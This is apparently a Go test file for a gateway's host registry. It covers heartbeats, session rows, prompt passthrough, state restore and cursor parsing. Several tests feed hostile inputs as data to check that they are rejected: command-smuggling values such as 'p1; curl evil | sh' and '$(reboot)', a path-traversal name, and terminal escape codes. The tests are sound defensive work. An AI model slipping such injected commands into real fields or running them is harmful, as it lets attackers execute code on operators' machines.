package registry

import (
	"encoding/json"
	"testing"
	"time"

	"berth/api"
)

func encode(t *testing.T, v any) []byte {
	t.Helper()
	data, err := json.Marshal(v)
	if err != nil {
		t.Fatal(err)
	}
	return data
}

func TestHosts(t *testing.T) {
	now := time.Date(2026, 11, 27, 1, 0, 0, 0, time.UTC)
	r := New()
	if stale, err := r.Heard("box2", encode(t, Beat{Rows: 1}), now); stale || err != nil || len(r.Hosts(now)) != 0 {
		t.Errorf("a host that isn't in the fleet: %v, %v, %v", stale, err, r.Hosts(now))
	}
	r.Admit("box3")
	r.Admit("box2")
	if h, ok := r.Host("box2", now); !ok || h.Reachable || !h.Since.IsZero() {
		t.Errorf("not yet seen: %+v", h)
	}
	stale, err := r.Heard("box2", encode(t, Beat{Version: "1.2", Labels: []string{"gpu", "not a label"}, Running: 3, Rows: 7}), now)
	if !stale || err != nil {
		t.Errorf("the first beat: %v, %v", stale, err)
	}
	if err := r.SetRows("box2", encode(t, Rows{Number: 7, Sessions: []api.Session{{Session: "api", ID: "a"}, {Session: "../x", ID: "b"}, {Session: "box3/y", ID: "c"}, {Session: "z"}, {Session: "web", ID: "d", Tags: []string{"\x1b[2J"}}}, Pending: []string{"a"}})); err != nil {
		t.Fatal(err)
	}
	h, _ := r.Host("box2", now.Add(Absent))
	if !h.Reachable || !h.Since.Equal(now) || len(h.Sessions) != 1 || len(h.Pending) != 1 || h.Sessions[0].Session != "api" || len(h.Beat.Labels) != 1 {
		t.Errorf("%+v", h)
	}
	if stale, _ := r.Heard("box2", encode(t, Beat{Rows: 7}), now.Add(3*time.Second)); stale {
		t.Error("it has the rows, and asks for them")
	}
	away := now.Add(3*time.Second + Absent + 1)
	if h, _ := r.Host("box2", away); h.Reachable || !h.Since.Equal(now.Add(3*time.Second)) || len(h.Sessions) != 1 {
		t.Errorf("away: %+v", h)
	}
	_, _ = r.Heard("box2", encode(t, Beat{Rows: 8}), away)
	if h, _ := r.Host("box2", away); !h.Reachable || !h.Since.Equal(away) {
		t.Errorf("back: %+v", h)
	}
	if list := r.Hosts(away); len(list) != 2 || list[0].Name != "box2" || list[1].Name != "box3" {
		t.Errorf("%+v", list)
	}
	r.Forget("box2")
	if _, ok := r.Host("box2", away); ok {
		t.Error("it is still known")
	}
}

func TestBounds(t *testing.T) {
	r := New()
	r.Admit("box2")
	for name, data := range map[string][]byte{"long": make([]byte, MostBytes+1), "no JSON": []byte("{")} {
		if _, err := r.Heard("box2", data, time.Now()); err == nil {
			t.Errorf("a beat that is %s was taken", name)
		}
		if err := r.SetRows("box2", data); err == nil {
			t.Errorf("rows that are %s were taken", name)
		}
	}
	if _, err := r.Heard("box2", encode(t, Beat{Running: -5}), time.Now()); err != nil {
		t.Error(err)
	}
	if h, _ := r.Host("box2", time.Now()); h.Beat.Running != 0 {
		t.Errorf("%d sessions run", h.Beat.Running)
	}
	many := Rows{Number: 1}
	for range MostRows + 1 {
		many.Sessions = append(many.Sessions, api.Session{Session: "a", ID: "b"})
	}
	_ = r.SetRows("box2", encode(t, many))
	if h, _ := r.Host("box2", time.Now()); len(h.Sessions) > MostRows {
		t.Errorf("%d rows", len(h.Sessions))
	}
}

// TestWordsOfRows: what a person copies from a row into a command line is one harmless word.
func TestWordsOfRows(t *testing.T) {
	evil, id := "p1; curl evil | sh", "01M8DFPTPE5GV6MMQWJE3B2KYT"
	for name, c := range map[string]struct {
		row  api.Session
		want int
	}{
		"honest":                 {api.Session{ID: id, Parent: &id, Prompt: map[string]any{"id": "p1-a_b:c.d", "digest": "00ff", "title": evil}}, 1},
		"no prompt":              {api.Session{ID: id}, 1},
		"the session's id":       {api.Session{ID: evil}, 0},
		"an option as its id":    {api.Session{ID: "--all"}, 0},
		"the parent":             {api.Session{ID: id, Parent: &evil}, 0},
		"the prompt's id":        {api.Session{ID: id, Prompt: map[string]any{"id": evil}}, 0},
		"no id":                  {api.Session{ID: id, Prompt: map[string]any{"id": ""}}, 0},
		"an id in a list":        {api.Session{ID: id, Prompt: map[string]any{"id": []string{evil}}}, 0},
		"its other name":         {api.Session{ID: id, Prompt: map[string]any{"id": "p1", "prompt_id": evil}}, 0},
		"the prompt's digest":    {api.Session{ID: id, Prompt: map[string]any{"id": "p1", "digest": "$(reboot)"}}, 0},
		"its id in another case": {api.Session{ID: id, Prompt: map[string]any{"ID": evil}}, 0},
		"two ids":                {api.Session{ID: id, Prompt: map[string]any{"id": "p1", "Id": evil}}, 0},
		"a digest with a long s": {api.Session{ID: id, Prompt: map[string]any{"id": "p1", "dige\u017ft": evil}}, 0},
		"a name twice":           {api.Session{ID: id, Prompt: json.RawMessage(`{"id":"p1","text":"a","text":"b"}`)}, 0},
		"a text for a prompt":    {api.Session{ID: id, Prompt: evil}, 0},
	} {
		r := New()
		r.Admit("box2")
		c.row.Session = "api"
		if err := r.SetRows("box2", encode(t, Rows{Number: 1, Sessions: []api.Session{c.row}})); err != nil {
			t.Fatal(err)
		}
		if h, _ := r.Host("box2", time.Now()); len(h.Sessions) != c.want {
			t.Errorf("%s: %d rows", name, len(h.Sessions))
		}
	}
}

// TestPromptsOfRows: a prompt goes through the gateway as its host wrote it, also when the gateway starts again, and a row
// that can't be read keeps no other one out.
func TestPromptsOfRows(t *testing.T) {
	prompt := `{"id":"p1","schema":{"type":"object","properties":{"z":{"default":9007199254740993},"a":{"default":1e400,"title":"<b>"}},"required":[]}}`
	r := New()
	r.Admit("box2")
	for name, odd := range map[string]string{"no object": `7`, "another type": `{"session":"odd","id":"b","cols":"wide"}`, "no prompt": `{"session":"odd","id":"b","prompt":[]}`} {
		if err := r.SetRows("box2", []byte(`{"number":1,"sessions":[`+odd+`,{"session":"form","id":"a","prompt":`+prompt+`}]}`)); err != nil {
			t.Fatal(err)
		}
		h, _ := r.Host("box2", time.Now())
		if len(h.Sessions) != 1 || string(h.Sessions[0].Prompt.(json.RawMessage)) != prompt {
			t.Errorf("beside a row that is %s: %s", name, encode(t, h.Sessions))
		}
	}
	data, err := r.Unsaved()["box2"].Encode()
	var saved Saved
	if err == nil {
		err = json.Unmarshal(data, &saved)
	}
	if err != nil || len(saved.Rows.Sessions) != 1 || string(saved.Rows.Sessions[0].Prompt.(json.RawMessage)) != prompt {
		t.Errorf("saved: %s, %v", data, err)
	}
	if err := r.SetRows("box2", []byte("{\"sessions\":[{\"session\":\"form\",\"id\":\"a\",\"prompt\":{\"id\":\"p1\",\"text\":\"\x9b2J\"}},{\"session\":\"none\",\"id\":\"b\",\"prompt\":null}]}")); err != nil {
		t.Fatal(err)
	}
	h, _ := r.Host("box2", time.Now())
	if len(h.Sessions) != 2 || string(h.Sessions[0].Prompt.(json.RawMessage)) != "{\"id\":\"p1\",\"text\":\"\uFFFD2J\"}" || h.Sessions[1].Prompt != nil {
		t.Errorf("bytes that aren't UTF-8, and no prompt: %s", encode(t, h.Sessions))
	}
}

// TestRestored has a gateway that starts again while a host is away.
func TestRestored(t *testing.T) {
	now := time.Date(2026, 11, 27, 1, 0, 0, 0, time.UTC)
	r := New()
	r.Admit("box2")
	_, _ = r.Heard("box2", encode(t, Beat{Rows: 7}), now)
	_ = r.SetRows("box2", encode(t, Rows{Number: 7, Sessions: []api.Session{{Session: "api", ID: "a"}}}))
	saved := r.Unsaved()
	if len(saved) != 1 || len(r.Unsaved()) != 0 {
		t.Fatalf("%+v, then %+v", saved, r.Unsaved())
	}
	later := now.Add(time.Second)
	_, _ = r.Heard("box2", encode(t, Beat{Rows: 7}), later)
	if len(r.Unsaved()) != 0 || !r.Seen()["box2"].Equal(later) {
		t.Error("a beat that says nothing new has the host's file written, or isn't noted")
	}
	_, _ = r.Heard("box2", encode(t, Beat{Rows: 7, Running: 1}), later)
	if len(r.Unsaved()) != 1 {
		t.Error("another beat isn't saved")
	}
	next := New()
	next.Restore("box2", saved["box2"], now)
	if len(next.Hosts(now)) != 0 {
		t.Error("a host that isn't in the fleet was restored")
	}
	next.Admit("box2")
	next.Restore("box2", saved["box2"], now.Add(time.Second))
	h, _ := next.Host("box2", now.Add(time.Second))
	if h.Reachable || len(h.Sessions) != 1 || h.Since.After(now) {
		t.Errorf("%+v", h)
	}
	if stale, _ := next.Heard("box2", encode(t, Beat{Rows: 7}), now.Add(2*time.Second)); stale {
		t.Error("its rows are known, and asked for")
	}
}

func TestDescends(t *testing.T) {
	a, b, c, x, y := "a", "b", "c", "x", "y"
	h := Host{Sessions: []api.Session{{ID: a}, {ID: b, Parent: &a}, {ID: c, Parent: &b}, {ID: x, Parent: &y}, {ID: y, Parent: &x}}}
	for _, tt := range []struct {
		id, ancestor string
		want         bool
	}{{c, a, true}, {b, a, true}, {a, c, false}, {c, x, false}, {a, a, false}, {x, a, false}, {"gone", a, false}} {
		if got := h.Descends(tt.id, tt.ancestor); got != tt.want {
			t.Errorf("%s below %s: %v", tt.id, tt.ancestor, got)
		}
	}
}

func TestCursor(t *testing.T) {
	if n, err := ParseCursor(FormatCursor(4711)); n != 4711 || err != nil {
		t.Errorf("%d, %v", n, err)
	}
	for _, text := range []string{"", "f", "e1", "f-1", "f1x", "11", "f18446744073709551616"} {
		if n, err := ParseCursor(text); err == nil {
			t.Errorf("%q is %d", text, n)
		}
	}
}
